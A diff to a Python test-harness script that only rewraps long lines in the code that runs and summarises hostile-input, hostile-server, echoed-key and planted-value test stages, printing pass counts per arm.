                 print(f"5. hostile input: run folder ({arm}: {code})", flush=True)
-                folder_rows = hostile_run_folder(code, work / f"hostile-{arm}" / "folder", args.hostile_timeout)
+                folder_rows = hostile_run_folder(code, work / f"hostile-{arm}" / "folder",
+                                                 args.hostile_timeout)
                 out.setdefault("hostile", {})[arm] = {
                     "code": str(code), "templates": tpl, "run_folder": folder_rows,
                     "templates_passed": sum(r["pass"] for r in tpl), "templates_total": len(tpl),
@@ -930,10 +996,12 @@ def main() -> None:
                     "templates_hung": sum(r["exit"] is None for r in tpl),
                     "folder_passed": sum(r["pass"] for r in folder_rows), "folder_total": len(folder_rows)}
             if "echoed-keys" not in args.skip:
-                print(f"6a. hostile servers: echoed keys ({arm}: {code}; every client, every field)", flush=True)
+                print(f"6a. hostile servers: echoed keys ({arm}: {code}; every client, every field)",
+                      flush=True)
                 rows = echoed_keys(work / f"echo-{arm}", code)
                 out.setdefault("echoed_keys", {})[arm] = {"code": str(code), "cases": rows,
-                                                          "passed": sum(r["pass"] for r in rows), "total": len(rows)}
+                                                          "passed": sum(r["pass"] for r in rows),
+                                                          "total": len(rows)}
             if "planted" not in args.skip:
                 print(f"7. planted values ({arm}: {code})", flush=True)
                 out.setdefault("planted", {})[arm] = planted_values(code, work / f"planted-{arm}")
@@ -950,24 +1018,25 @@ def main() -> None:
               f"{k['duplicated']}, wrong scores {k['wrong_score']}, failed resumes {k['resume_failures']}")
     for arm, block in out.get("permanent", {}).items():
         s = block["summary"]
-        print(f"permanent ({arm}): {s['stopped_nonzero']} of {s['strict_cases']} stopped with exit != 0, at most "
-              f"{s['max_requests']} requests")
+        print(f"permanent ({arm}): {s['stopped_nonzero']} of {s['strict_cases']} stopped with exit != 0, at "
+              f"most {s['max_requests']} requests")
     for arm, block in out.get("bad_inputs", {}).items():
         print(f"bad inputs ({arm}): {block['passed']} of {block['total']} one-line errors with exit != 0 "
               f"({block['tracebacks']} tracebacks, {block['exit_zero']} exit 0)")
     for arm, block in out.get("hostile", {}).items():
-        print(f"hostile templates ({arm}): {block['templates_passed']} of {block['templates_total']} refused in one "
-              f"line ({block['markers_created']} marker files created, {block['templates_hung']} hung); run folder: "
-              f"{block['folder_passed']} of {block['folder_total']} cases pass")
+        print(f"hostile templates ({arm}): {block['templates_passed']} of {block['templates_total']} refused "
+              f"in one line ({block['markers_created']} marker files created, {block['templates_hung']} "
+              f"hung); run folder: {block['folder_passed']} of {block['folder_total']} cases pass")
     for arm, block in out.get("echoed_keys", {}).items():
         print(f"echoed keys ({arm}): {block['passed']} of {block['total']} cases pass")
     if "default_hang" in out:
-        print(f"default-settings hang: {out['default_hang']['passed']} of {out['default_hang']['total']} cases pass")
+        print(f"default-settings hang: {out['default_hang']['passed']} of "
+              f"{out['default_hang']['total']} cases pass")
     for arm, block in out.get("planted", {}).items():
         t = block["total"]
-        print(f"planted values ({arm}): {t['cases']} answers; read the planted value {t['planted']}, the judge's own "
-              f"{t['own']}, recorded failures {t['failed']} (marked quotations: {t['marked_own']} of {t['marked']} "
-              f"read the judge's own)")
+        print(f"planted values ({arm}): {t['cases']} answers; read the planted value {t['planted']}, the "
+              f"judge's own {t['own']}, recorded failures {t['failed']} (marked quotations: "
+              f"{t['marked_own']} of {t['marked']} read the judge's own)")
     print(f"wrote {args.out} in {out['seconds']} s")
 
 
